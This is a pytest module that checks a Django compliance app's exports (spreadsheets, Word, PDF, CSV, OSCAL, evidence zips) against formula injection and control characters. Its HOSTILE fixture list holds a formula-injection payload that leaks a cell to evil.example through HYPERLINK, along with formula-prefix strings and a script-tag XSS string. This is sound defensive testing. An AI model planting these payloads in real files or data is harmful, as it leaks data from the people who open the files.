"""Every export opens, in openpyxl, python-docx, pypdf and LibreOffice, when every text field of
the organisation holds hostile text, and no spreadsheet cell runs as a formula.

The demo organisation's text is overwritten directly, past the forms and services, as rows
written before today's input checks would hold it. Each export is then fetched from its page's
URL by the owner, as a person would download it, and opened.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import re
import shutil
import subprocess
import zipfile
from dataclasses import dataclass
from pathlib import Path

import docx
import pytest
from django.apps import apps
from django.db import connection, models, transaction
from django.test import Client, TestCase, override_settings
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook
from pypdf import PdfReader

from safelane.accounts.models import User
from safelane.assessments.models import AssessmentCycle
from safelane.catalog.models import CatalogVersion, Category, Criterion
from safelane.core.models import AuditEntry, TenantModel
from safelane.demo.data import ACME, load_demo
from safelane.jobs.models import Job
from safelane.orgs.models import Organisation
from safelane.risk.models import RiskAssessment

# Only so that pytest-django sets up the test database: the exports are produced once, by the
# module's fixture, and the tests only open them.
pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&E2,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\tTAB",
    "\rCR",
    "bad\x0bvertical tab",
    "nul\x00byte",
    "²³ ١٢٣",
    "long " * 1000,
    "<script>alert(1)</script>",
    "Ñandú ünïcödé 中文",
]

# Text the code looks rows up by, or that Safelane derives itself, rather than text a person
# types: hostile values there would break the demo's links, not test the exports. Fields with
# choices, unique fields and e-mail addresses (how people sign in and are invited) are left too.
NOT_FREE_TEXT = {
    "slug": "the organisation's address in every URL",
    "currency": "the ISO 4217 code amounts are formatted with",
    "entity_type": "a catalog code of an entity type held",
    "subtype": "a catalog code of an entity type's sub-type",
    "ident": "a criterion's ID, which decisions and the catalog are matched by",
    "code": "an own criterion's ID, which its responses are matched by",
    "criterion_ident": "the criterion a response or evidence link belongs to",
    "must_should": "compared with 'must' and 'should' (a response keeps it without choices)",
    "original_name": "a file name the upload check made safe; it names the file in the package",
    "content_type": "detected from the uploaded file",
    "sha256": "computed from the file",
    "statement_sha256": "computed from the agreement's text",
    "kind": "which document a background job builds (other kinds have choices)",
    "result_name": "the file name a finished job offers for download",
    "result_path": "where a finished job's file is stored",
    "object_id": "the record an audit entry is about",
    "password": "a person's password hash",
}

# Spreadsheets run a cell that starts with one of these as a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# What XML 1.0 cannot hold, and the other control characters, but tab, newline, CR.
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")

SPREADSHEETS = [
    "cycle1-gaps.xlsx",
    "cycle2-gaps.xlsx",
    "budget.xlsx",
    "portal-data.xlsx",
    "catalog.xlsx",
]
DOCUMENTS = ["cycle1-profile.docx", "cycle2-profile.docx", "risk-report.docx"]
PDFS = [
    "cycle1-profile.pdf",
    "cycle2-profile.pdf",
    "budget.pdf",
    "portal-data.pdf",
    "risk-report.pdf",
]
OSCAL = ["cycle1-oscal.json", "cycle2-oscal.json"]


def hostile_values() -> list[str]:
    if connection.vendor == "postgresql":
        # PostgreSQL refuses NUL in text outright, so no stored value can hold one there.
        return [v for v in HOSTILE if "\x00" not in v]
    return HOSTILE


def _unique_together(model: type[models.Model]) -> set[str]:
    """Fields that one of the model's unique constraints holds (a key unique per parent):
    writing one value to every row would break the constraint, not test an export."""
    names = {name for group in model._meta.unique_together for name in group}
    for constraint in model._meta.constraints:
        if isinstance(constraint, models.UniqueConstraint):
            names.update(constraint.fields)
    return names


def free_text_fields(model: type[models.Model]) -> list[models.Field]:
    keyed = _unique_together(model)
    return [
        f
        for f in model._meta.concrete_fields
        if isinstance(f, models.CharField | models.TextField)
        and not isinstance(f, models.EmailField)
        and not f.choices
        and not f.unique
        and f.name not in keyed
        and f.name not in NOT_FREE_TEXT
    ]


def overwrite(queryset: models.QuerySet, values: list[str]) -> None:
    """Row n's field m gets hostile value n + m, so that each field goes through every value
    and the first row's first field gets the first; cut to the column's size (a longer value
    could never have been stored)."""
    fields = free_text_fields(queryset.model)
    pks = queryset.order_by("pk").values_list("pk", flat=True)
    for row, pk in enumerate(pks):
        changes: dict[str, object] = {
            field.name: values[(row + turn) % len(values)][: field.max_length]
            for turn, field in enumerate(fields)
        }
        if queryset.model is AuditEntry:
            changes["changes"] = {"narrative": [values[row % len(values)], values[0]]}
        queryset.filter(pk=pk).update(**changes)


def make_hostile(org: Organisation, values: list[str]) -> None:
    for model in apps.get_models():
        if issubclass(model, TenantModel):
            overwrite(model.objects.for_org(org), values)
    overwrite(Organisation.objects.filter(pk=org.pk), values)
    overwrite(AuditEntry.objects.for_org(org), values)
    # People's names and the catalog (as a staff import could bring it) reach the exports too.
    overwrite(User.objects.filter(memberships__organisation=org).distinct(), values)
    version = CatalogVersion.objects.filter(is_current=True)
    overwrite(version, values)
    overwrite(Category.objects.filter(version__in=version), values)
    overwrite(Criterion.objects.filter(version__in=version), values)


def download(client: Client, url: str) -> bytes:
    response = client.get(url)
    assert response.status_code == 200, f"{url}: {response.status_code}"
    return bytes(response.getvalue())  # streamed (audit log, job files) or not


def package(client: Client, org: Organisation, cycle: AssessmentCycle) -> bytes:
    with TestCase.captureOnCommitCallbacks(execute=True):
        response = client.post(reverse("assessments:package", args=[org.slug, cycle.pk]))
    assert response.status_code == 302
    job = Job.objects.for_org(org).filter(kind="evidence-package").latest("pk")
    assert job.status == "done", job.error
    return download(client, reverse("jobs:download", args=[org.slug, job.pk]))


def produce(values: list[str]) -> dict[str, bytes]:
    load_demo()
    org = Organisation.objects.get(slug=ACME)
    owner = User.objects.get(email="olivia@acme.example")
    make_hostile(org, values)
    org.refresh_from_db()
    client = Client()
    client.force_login(owner)
    slug = org.slug
    files = {}
    cycles = list(AssessmentCycle.objects.for_org(org).order_by("pk"))
    assert len(cycles) == 2
    for number, cycle in enumerate(cycles, start=1):
        args = [slug, cycle.pk]
        for fmt, name in (
            ("docx", "profile.docx"),
            ("pdf", "profile.pdf"),
            ("xlsx", "gaps.xlsx"),
            ("oscal", "oscal.json"),
        ):
            files[f"cycle{number}-{name}"] = download(
                client, reverse(f"assessments:export_{fmt}", args=args)
            )
        files[f"cycle{number}-package.zip"] = package(client, org, cycle)
    risk = RiskAssessment.objects.for_org(org).get().pk
    for name, url in {
        "budget.xlsx": reverse("actions:budget_xlsx", args=[slug]),
        "budget.pdf": reverse("actions:budget_pdf", args=[slug]),
        "portal-data.xlsx": reverse("eligibility:datasheet_xlsx", args=[slug]),
        "portal-data.pdf": reverse("eligibility:datasheet_pdf", args=[slug]),
        "risk-report.pdf": reverse("risk:report_pdf", args=[slug, risk]),
        "risk-report.docx": reverse("risk:report_docx", args=[slug, risk]),
        "audit.csv": reverse("audit:export", args=[slug]),
        "catalog.csv": reverse("catalog:export", args=[slug, "csv"]),
        "catalog.xlsx": reverse("catalog:export", args=[slug, "xlsx"]),
    }.items():
        files[name] = download(client, url)
    return files


@dataclass
class Exports:
    files: dict[str, bytes]
    org_name: str
    values: list[str]
    pdf_warnings: list[str]


class _Collect(logging.Handler):
    def __init__(self) -> None:
        super().__init__(logging.WARNING)
        self.messages: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.messages.append(record.getMessage())


@pytest.fixture(scope="module")
def exports(django_db_setup, django_db_blocker, tmp_path_factory):
    """Every export of the hostile organisation, produced once for the module and rolled back."""
    weasyprint = _Collect()
    logging.getLogger("weasyprint").addHandler(weasyprint)
    try:
        with (
            django_db_blocker.unblock(),
            override_settings(MEDIA_ROOT=tmp_path_factory.mktemp("media")),
            translation.override("en"),
            transaction.atomic(),
        ):
            values = hostile_values()
            files = produce(values)
            org_name = Organisation.objects.get(slug=ACME).name
            transaction.set_rollback(True)
    finally:
        logging.getLogger("weasyprint").removeHandler(weasyprint)
    return Exports(files, org_name, values, weasyprint.messages)


def visible(value: str) -> str:
    """What of a hostile value a reader should still find: without control characters, and for
    the long one its start (columns cut it)."""
    return CONTROL.sub("", value).strip()[:100]


def assert_safe_text(text: str, where: str) -> None:
    assert not CONTROL.search(text), f"{where}: control character in {text[:80]!r}"


def assert_safe_field(field: str, where: str) -> None:
    assert_safe_text(field, where)
    if field.startswith(FORMULA_START):
        float(field)  # only a plain number may start with a sign


def csv_fields(content: bytes, where: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert len(rows) > 1, f"{where} has no rows"
    fields = [field for row in rows for field in row]
    for field in fields:
        assert_safe_field(field, where)
    return fields


@pytest.mark.parametrize("name", SPREADSHEETS)
def test_spreadsheets_open_and_no_cell_is_a_formula(exports, name):
    book = load_workbook(io.BytesIO(exports.files[name]))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                where = f"{name} {sheet.title}!{cell.coordinate}"
                assert cell.data_type != "f", f"{where} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert_safe_field(cell.value, where)
                    texts.append(cell.value)
    # The hostile text is there, quoted, not lost.
    assert any(t.startswith("'" + HOSTILE[0]) for t in texts), name


@pytest.mark.parametrize("name", ["budget.xlsx", "portal-data.xlsx"])
def test_the_organisation_name_heads_the_sheet_as_quoted_text(exports, name):
    sheet = load_workbook(io.BytesIO(exports.files[name])).worksheets[0]
    assert sheet["B1"].value == "'" + exports.org_name
    assert sheet["B1"].data_type == "s"


def docx_text(content: bytes) -> str:
    doc = docx.Document(io.BytesIO(content))
    parts = [p.text for p in doc.paragraphs]
    parts += [cell.text for table in doc.tables for row in table.rows for cell in row.cells]
    return "\n".join([doc.core_properties.title or "", *parts])


@pytest.mark.parametrize("name", DOCUMENTS)
def test_word_documents_open_and_hold_the_text_without_control_characters(exports, name):
    text = docx_text(exports.files[name])
    assert_safe_text(text, name)
    assert visible(exports.org_name) in text


@pytest.mark.parametrize("name", ["cycle1-profile.docx", "cycle2-profile.docx"])
def test_the_security_profile_keeps_every_hostile_value(exports, name):
    text = docx_text(exports.files[name])
    missing = [v for v in exports.values if visible(v) not in text]
    assert not missing


@pytest.mark.parametrize("name", PDFS)
def test_pdfs_open_and_have_text(exports, name):
    pdf = PdfReader(io.BytesIO(exports.files[name]))
    assert "".join(page.extract_text() for page in pdf.pages).strip(), name


@pytest.mark.parametrize("name", ["cycle1-profile.pdf", "cycle2-profile.pdf", "portal-data.pdf"])
def test_pdf_titles_name_the_organisation(exports, name):
    # The title, unlike the page text, reads back whatever fonts this machine has.
    metadata = PdfReader(io.BytesIO(exports.files[name])).metadata
    assert metadata is not None
    assert visible(exports.org_name) in str(metadata.title)


def test_no_control_character_reaches_a_pdf(exports):
    # WeasyPrint names each character it has no glyph for; a control character never has one.
    control = re.compile(r"\(U\+00([01][0-9A-F]|7F|[89][0-9A-F])\)")
    assert not [w for w in exports.pdf_warnings if control.search(w)]


@pytest.mark.parametrize("name", ["audit.csv", "catalog.csv"])
def test_csv_exports_parse_and_no_field_would_run(exports, name):
    fields = csv_fields(exports.files[name], name)
    assert any(f.startswith("'" + HOSTILE[0]) for f in fields), name


@pytest.mark.parametrize("name", ["cycle1-package.zip", "cycle2-package.zip"])
def test_the_evidence_package_index_parses_and_no_field_would_run(exports, name):
    archive = zipfile.ZipFile(io.BytesIO(exports.files[name]))
    assert archive.testzip() is None
    rows = list(csv.reader(io.StringIO(archive.read("index.csv").decode("utf-8-sig"))))
    for row in rows:
        for field in row:
            assert_safe_field(field, f"{name} index.csv")
    assert {row[3] for row in rows[1:]} <= set(archive.namelist())


def test_evidence_titles_reach_the_package_index_quoted(exports):
    titles = []
    for name in ("cycle1-package.zip", "cycle2-package.zip"):
        index = (
            zipfile.ZipFile(io.BytesIO(exports.files[name])).read("index.csv").decode("utf-8-sig")
        )
        titles += [row[1] for row in list(csv.reader(io.StringIO(index)))[1:]]
    assert "'" + HOSTILE[0] in titles


@pytest.mark.parametrize("name", OSCAL)
def test_oscal_results_parse_and_keep_the_name(exports, name):
    document = json.loads(exports.files[name])
    title = document["assessment-results"]["metadata"]["title"]
    assert title.startswith(exports.org_name)


needs_libreoffice = pytest.mark.skipif(
    shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed"
)


def soffice_convert(
    files: list[Path], to: str, outdir: Path, profile: Path, infilter: str | None = None
) -> None:
    """Convert with LibreOffice in one run, with a profile of its own so runs do not clash."""
    subprocess.run(
        [
            shutil.which("soffice") or "soffice",
            f"-env:UserInstallation={profile.as_uri()}",
            "--headless",
            *([f"--infilter={infilter}"] if infilter else []),
            "--convert-to",
            to,
            "--outdir",
            str(outdir),
            *map(str, files),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )


@needs_libreoffice
def test_libreoffice_opens_every_spreadsheet_and_word_document(exports, tmp_path):
    names = [*SPREADSHEETS, *DOCUMENTS]
    for name in names:
        (tmp_path / name).write_bytes(exports.files[name])
    outdir = tmp_path / "pdf"
    soffice_convert([tmp_path / n for n in names], "pdf", outdir, tmp_path / "profile")
    for name in names:
        pdf = outdir / f"{Path(name).stem}.pdf"
        assert pdf.exists(), f"LibreOffice did not convert {name}"
        assert len(PdfReader(pdf).pages) > 0, name


@needs_libreoffice
def test_libreoffice_reads_every_csv_field_as_text(exports, tmp_path):
    """LibreOffice runs a CSV field that starts with "=" as a formula; none of ours may."""
    tables = {"audit.csv": exports.files["audit.csv"], "catalog.csv": exports.files["catalog.csv"]}
    for name in ("cycle1-package.zip", "cycle2-package.zip"):
        index = zipfile.ZipFile(io.BytesIO(exports.files[name])).read("index.csv")
        tables[f"{Path(name).stem}-index.csv"] = index
    for name, content in tables.items():
        (tmp_path / name).write_bytes(content)
    outdir = tmp_path / "xlsx"
    soffice_convert(
        [tmp_path / n for n in tables],
        "xlsx",
        outdir,
        tmp_path / "profile",
        infilter="CSV:44,34,76",  # comma, double quote, UTF-8
    )
    for name in tables:
        book = load_workbook(outdir / f"{Path(name).stem}.xlsx")
        formulas = [
            f"{cell.coordinate} {cell.value!r}"
            for row in book.worksheets[0].iter_rows()
            for cell in row
            if cell.data_type == "f"
        ]
        assert not formulas, f"{name}: {formulas[:3]}"
